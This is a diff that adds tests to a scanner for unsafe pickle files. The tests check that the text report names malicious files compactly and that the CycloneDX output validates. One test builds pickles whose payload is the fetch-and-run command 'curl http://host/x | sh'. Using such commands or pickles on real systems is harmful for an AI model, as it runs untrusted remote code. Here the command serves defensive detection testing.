@@ -60,6 +60,16 @@ def test_the_text_names_every_bad_file_with_its_reason_and_fits_a_screen(folder:
     assert "5 files: 3 with findings, 1 not read to the end, 1 without a finding" in text
 
 
+def test_thirty_files_fit_a_screen_too(folder: Path) -> None:
+    for number in range(12):
+        (folder / f"bad{number}.pkl").write_bytes(pickle.dumps(Called(f"curl http://host{number}/x | sh")))
+        (folder / f"good{number}.pkl").write_bytes(pickle.dumps(number))
+    lines = text_of(safeload.scan(folder)).splitlines()
+    assert len(lines) <= 24
+    for number in range(12):
+        assert any(f"bad{number}.pkl" in line and f"host{number}" in line for line in lines)
+
+
 def test_a_file_with_many_findings_takes_a_few_lines(tmp_path: Path) -> None:
     names = b"".join(b"\x8c\x05mypkg\x8c\x04C%03d\x93" % number for number in range(300))
     (tmp_path / "many.pkl").write_bytes(b"\x80\x04](" + names + b"e.")
@@ -107,6 +117,25 @@ def test_sarif_is_sarif_and_keeps_githubs_rules(folder: Path, monkeypatch: pytes
         assert result["ruleId"] in rules
         assert set(result["partialFingerprints"]) == {"primaryLocationLineHash"}
     assert all(type(rule["properties"]["security-severity"]) is str for rule in rules.values())
+
+
+def test_the_bill_of_materials_is_one(folder: Path) -> None:
+    from cyclonedx.schema import SchemaVersion
+    from cyclonedx.validation.json import JsonStrictValidator
+
+    report = safeload.scan(folder)
+    text = RENDERERS["cyclonedx"](report)
+    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(text) is None
+    document = json.loads(text)
+    parts = {part["name"]: part for part in document["components"]}
+    assert {part["type"] for part in parts.values()} == {"machine-learning-model"}
+    import hashlib
+
+    digest = hashlib.sha256((folder / "good.pkl").read_bytes()).hexdigest()
+    assert parts["good.pkl"]["hashes"] == [{"alg": "SHA-256", "content": digest}]
+    refs = {part["bom-ref"]: part["name"] for part in parts.values()}
+    found = {(refs[each["affects"][0]["ref"]], each["id"]) for each in document["vulnerabilities"]}
+    assert {("bad.pkl", "SL101"), ("own.pkl", "SL201")} <= found
 
 
 def test_a_fingerprint_stays_where_the_file_moves(tmp_path: Path) -> None:
